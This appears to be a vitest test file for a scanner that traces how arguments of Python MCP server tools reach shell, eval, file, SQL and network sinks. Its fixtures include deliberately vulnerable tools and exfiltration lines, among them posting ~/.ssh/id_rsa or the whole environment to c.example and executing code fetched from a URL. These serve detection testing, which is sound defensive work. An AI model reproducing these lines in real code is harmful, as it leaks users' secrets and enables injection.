import { describe, expect, it } from 'vitest';
import { readPython } from '../../scanner/code/python.ts';

const python = (files: Readonly<Record<string, string | Buffer>>) =>
  Object.entries(files).map(([path, text]) => ({
    ...{ path, language: 'python' as const },
    bytes: Buffer.from(text),
  }));

/** What flows in each of these packages: all are one question, each in a folder of its own. */
async function flowsOf(packages: readonly Readonly<Record<string, string>>[]): Promise<string[][]> {
  const all = packages.flatMap((files, at) =>
    Object.entries(files).map(([path, text]) => [`p${at}/${path}`, text] as const),
  );
  const { flows } = await readPython(python(Object.fromEntries(all)), 20_000);
  return packages.map((_, at) => [
    ...new Set(
      flows.flows
        .filter(({ path }) => path.startsWith(`p${at}/`))
        .map(({ origin, what, tool, sink }) =>
          origin === 'argument' ? `${what} of ${tool} -> ${sink}` : `${origin} ${what} -> ${sink}`,
        ),
    ),
  ]);
}

const HEAD = `
import os, subprocess, shlex, sqlite3, re
import httpx, requests
from pathlib import Path
from mcp.server.fastmcp import FastMCP
mcp = FastMCP('x')
ALLOWED = ['a']
def start(line): return subprocess.run(line, shell=True)
`;
const tool = (body: string, args = 'x: str, n: int'): string =>
  `${HEAD}\n@mcp.tool()\nasync def t(${args}) -> str:\n${body
    .split('\n')
    .map((line) => `    ${line}`)
    .join('\n')}\n`;

describe('Python that is read by Python', () => {
  it('says what it reaches, with its line', async () => {
    const text =
      "import socket\nfrom subprocess import run\nimport ctypes\nkey = os.environ['API_KEY']\nurl = 'https://api.example.com/x'\nexec(base64.b64decode('eA=='))\nopen('/home/a/.ssh/id_rsa')\n";
    const { files } = await readPython(python({ 'a.py': `import os, base64\n${text}` }), 20_000);
    const [one] = files;
    if (typeof one !== 'object') throw new Error(one);
    expect(one.uses.map(({ capability, what }) => `${capability}: ${what}`)).toEqual(
      expect.arrayContaining([
        'network: socket',
        'programs: subprocess',
        'native code: ctypes',
        'environment: API_KEY',
        'network: api.example.com',
        'dynamic code: exec',
        'files of the user: .ssh',
      ]),
    );
    expect(one.hidden.map(({ kind }) => kind)).toEqual(['text that is decoded and run as code']);
  });

  it('follows arguments of tools to sinks, and stops at checks', async () => {
    const cases: [string, string[]][] = [
      ["os.system('ping ' + x)", ['x of t -> shell']],
      ['subprocess.run(f"ping {x}", shell=True)', ['x of t -> shell']],
      ["line = f'ls {x}'\nreturn start(line)", ['x of t -> shell']],
      ["subprocess.run(['git', 'log', x])", ['x of t -> program argument']],
      ["subprocess.run(['bash', '-c', x])", ['x of t -> shell']],
      ['eval(x)', ['x of t -> code']],
      ['with open(x) as f:\n    return f.read()', ['x of t -> path']],
      ['async with httpx.AsyncClient() as client:\n    return await client.get(x)', ['x of t -> address']],
      ['cursor.execute(f"SELECT * FROM t WHERE a = \'{x}\'")', ['x of t -> query']],
      ['os.system(f"ping {n}")', []],
      ['os.system("ping " + shlex.quote(x))', []],
      ['if x not in ALLOWED:\n    raise ValueError()\nos.system(x)', []],
      ["if not re.fullmatch('[a-z]+', x):\n    return ''\nos.system(x)", []],
      ["requests.get(f'https://api.example.com/{x}')", []],
      ["cursor.execute('SELECT * FROM t WHERE a = ?', (x,))", []],
      ['p = validate_path(x)\nopen(p)', []],
      ["subprocess.run(['git', 'log', f'--author={x}'])", []],
    ];
    const found = await flowsOf(cases.map(([body]) => ({ 'a.py': tool(body) })));
    expect(found.map((one, at) => [cases[at]?.[0], one])).toEqual(cases);
  });

  it('is not ended by hostile source', async () => {
    const texts = [
      '('.repeat(100_000),
      `${'['.repeat(50)}${']'.repeat(50)}`,
      'def f(:',
      `x = ${'-'.repeat(90_000)}1`,
      '\0',
      `a${'.b'.repeat(30_000)}`,
    ];
    const files = Object.fromEntries([...texts, 'import socket'].map((text, at) => [`${at}.py`, text]));
    const answers = (await readPython(python(files), 20_000)).files;
    expect(answers).toHaveLength(texts.length + 1);
    expect(answers.at(-1)).toMatchObject({ uses: [{ what: 'socket' }] });
  });
});

/** What is around a tool that hands its arguments on. */
const SERVER = `from mcp.server.fastmcp import FastMCP
mcp = FastMCP('x')
`;

describe('Python that is followed from file to file', () => {
  it('by what modules import, classes inherit and servers register', async () => {
    const cases: [string, Record<string, string>, string[]][] = [
      [
        'a name from a module beside it',
        {
          'pkg/__init__.py': '',
          'pkg/server.py': `${SERVER}from .helpers import run\n@mcp.tool()\ndef t(x: str): return run(x)`,
          'pkg/helpers.py': 'import os\ndef run(line): os.system("ls " + line)',
        },
        ['x of t -> shell'],
      ],
      [
        'a module under another name, by its whole path',
        {
          'src/pkg/server.py': `${SERVER}import pkg.deep.util as u\n@mcp.tool(name="other")\ndef t(x: str): u.read(x)`,
          'src/pkg/deep/util.py': 'def read(p):\n    with open(p) as f: return f.read()',
        },
        ['x of other -> path'],
      ],
      [
        'names that a package hands on, and stars',
        {
          'pkg/server.py': `${SERVER}from pkg.lib import go\nfrom pkg.all import *\n@mcp.tool\ndef t(x: str):\n    go(x)\n    star(x)`,
          'pkg/lib/__init__.py': 'from .inner import go',
          'pkg/lib/inner.py': 'import requests\ndef go(u): return requests.get(u)',
          'pkg/all.py': 'def star(x): eval(x)',
        },
        ['x of t -> address', 'x of t -> code'],
      ],
      [
        'a method of an object that a module holds, and of the class above its own',
        {
          'pkg/server.py': `${SERVER}from pkg.client import client\n@mcp.tool()\ndef t(x: str): return client.ask(x)`,
          'pkg/client.py':
            'import sqlite3\nclass Base:\n    def __init__(self, p): self.db = sqlite3.connect(p)\n    def run(self, q): return self.db.execute(q)\nclass Client(Base):\n    def __init__(self): super().__init__("a.db")\n    def ask(self, name): return self.run(f"SELECT * FROM t WHERE n = \'{name}\'")\nclient = Client()',
        },
        ['x of t -> query'],
      ],
      [
        'tools that are asked for by name, and functions handed over',
        {
          'server.py': `from mcp.server import Server
import asyncio, handlers
server = Server('x')
@server.call_tool()
async def call(name: str, arguments: dict):
    if not arguments or 'path' not in arguments: raise ValueError()
    if name == 'read': return await asyncio.to_thread(handlers.read, arguments['path'])
    match name:
        case 'exec': return handlers.TABLE[name](arguments.get('line'))`,
          'handlers.py':
            'import subprocess\ndef read(p): return open(p).read()\ndef start(line): return subprocess.run(line, shell=True)\nTABLE = {"exec": start}',
        },
        ['path of read -> path', 'line of exec -> shell'],
      ],
      [
        'handlers that are registered by a call, inside of functions, as methods',
        {
          'server.py': `${SERVER}import os
from tools import register, Files
register(mcp)
files = Files()
mcp.add_tool(files.remove)
mcp.tool(name='late')(files.late)`,
          'tools.py':
            'import os, shutil\ndef register(app):\n    @app.tool()\n    def inner(x: str): os.system(x)\nclass Files:\n    def remove(self, p: str): shutil.rmtree(p)\n    def late(self, code: str): exec(code)',
        },
        ['p of remove -> path', 'code of late -> code', 'x of inner -> shell'],
      ],
      [
        'classes of tools whose objects stand in a table',
        {
          'server.py': `from mcp.server import Server
from tools import Run
app = Server('x')
table = {}
def add(one): table[one.name] = one
add(Run())
@app.call_tool()
async def call(name, arguments):
    return table.get(name).run_tool(arguments)`,
          'tools.py':
            'import os\nclass Handler:\n    def __init__(self, name): self.name = name\nclass Run(Handler):\n    def __init__(self): super().__init__("run")\n    def run_tool(self, args: dict): os.system(args["line"])',
        },
        ['line of  -> shell'],
      ],
      [
        'models of arguments, with what is narrow left out',
        {
          'server.py': `${SERVER}from models import Ask\nimport os\n@mcp.tool()\ndef t(params: Ask):\n    os.system(params.line)\n    os.system(params.kind)\n    os.system(str(params.count))`,
          'models.py':
            'from typing import Literal\nfrom pydantic import BaseModel\nclass Ask(BaseModel):\n    line: str\n    kind: Literal["a"]\n    count: int = 1',
        },
        ['line of t -> shell'],
      ],
      [
        'modules that import each other',
        {
          'a.py': `${SERVER}from b import go\n@mcp.tool()\ndef t(x: str): go(x)\ndef end(x): eval(x)`,
          'b.py': 'import a\ndef go(x): a.end(x); go(x)',
        },
        ['x of t -> code'],
      ],
    ];
    const found = await flowsOf(cases.map(([, files]) => files));
    expect(found.map((one, at) => [cases[at]?.[0], one.sort()])).toEqual(
      cases.map(([name, , expected]) => [name, expected.sort()]),
    );
  });

  it('is quiet where something looks at the argument first, and only there', async () => {
    const quiet: [string, string][] = [
      [
        'a folder that is held to',
        'p = (ROOT / x).resolve()\nif not p.is_relative_to(ROOT): raise ValueError()\nreturn p.read_text()',
      ],
      [
        'one that is held to by what it throws',
        'p = Path(x).resolve()\np.relative_to(ROOT)\nreturn p.read_text()',
      ],
      [
        'the same path in another form',
        'real = os.path.realpath(os.path.join("/d", x))\nif not real.startswith("/d/"): raise ValueError()\nreturn open(os.path.join("/d", x))',
      ],
      [
        'the parts of an address',
        'u = urlparse(x)\nif u.hostname not in HOSTS: raise ValueError()\nreturn requests.get(x)',
      ],
      ['options that end', 'subprocess.run(["git", "log", "--", x])'],
      [
        'an option that is none',
        'if x.startswith("-"): raise ValueError()\nsubprocess.run(["git", "log", x])',
      ],
      ['a client that knows its server', 'c = httpx.Client(base_url="https://a.example")\nreturn c.get(x)'],
      ['a function of its own that looks', 'start(safe_name(x))'],
      ['a list comprehension that looks', 'for one in [y for y in x if y in HOSTS]: os.system(one)'],
    ];
    const loud: [string, string][] = [
      ['a first word alone', 'if x.split()[0] in HOSTS: os.system(x)'],
      ['a path that is made and used', 'return Path(ROOT / x).read_text()'],
      ['an address whose host is an argument', 'return requests.request("GET", f"https://{x}/a")'],
      ['a name that promises a look', 'start(valid(x))'],
    ];
    const head = `${SERVER}import os, httpx, requests, subprocess
from pathlib import Path
from urllib.parse import urlparse
ROOT = Path('/data')
HOSTS = ['a.example']
def start(line): subprocess.run(line, shell=True)
def valid(x): return x.strip()
def safe_name(x):
    if '/' in x: raise ValueError()
    return x
@mcp.tool()
def t(x: str):
`;
    const all = [...quiet, ...loud];
    const found = await flowsOf(
      all.map(([, body]) => ({ 'a.py': `${head}${body.replace(/^/gm, '    ')}\n` })),
    );
    expect(found.flatMap((one, at) => (one.length > 0 ? [all[at]?.[0]] : []))).toEqual(
      loud.map(([name]) => name),
    );
  });

  it('tells what is private and leaves, and what others answer that is run', async () => {
    const cases: [string, string[]][] = [
      [
        'requests.post("https://c.example", json=dict(os.environ))',
        ['private the whole environment -> network'],
      ],
      [
        'k = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://c.example", data=k)',
        ['private ~/.ssh/id_rsa -> network'],
      ],
      ['exec(requests.get("https://c.example/x").text)', ['answer c.example -> code']],
      [
        'os.system(urllib.request.urlopen("https://c.example").read().decode())',
        ['answer c.example -> shell'],
      ],
      ['pickle.loads(requests.get("http://127.0.0.1:80/x").content)', []],
      ['requests.get("https://c.example", headers={"a": os.environ["KEY"]})', []],
      ['subprocess.run(["ls"], env={**os.environ, "A": "1"})', []],
      ['requests.get("https://c.example").json()["a"]', []],
    ];
    const head = 'import os, pickle, requests, subprocess, urllib.request\ndef f():\n';
    const found = await flowsOf(
      cases.map(([body]) => ({ 'm.py': `${head}${body.replace(/^/gm, '    ')}\n` })),
    );
    expect(found.map((one, at) => [cases[at]?.[0], one])).toEqual(cases);
  });

  it('says what it did not follow to its end', async () => {
    const chain = Array.from({ length: 20 }, (_, at) => `def f${at}(x): f${at + 1}(x + "a")\n`);
    const text = `${SERVER}${chain.join('')}@mcp.tool()\ndef t(x: str): f0(x)\n`;
    const large = `${SERVER}#${'a'.repeat(1024 * 1024)}`;
    const { flows } = await readPython(python({ 'a.py': text, 'b.py': large }), 20_000);
    expect(flows.unfollowed.sort()).toEqual(['a.py', 'b.py']);
  });
});
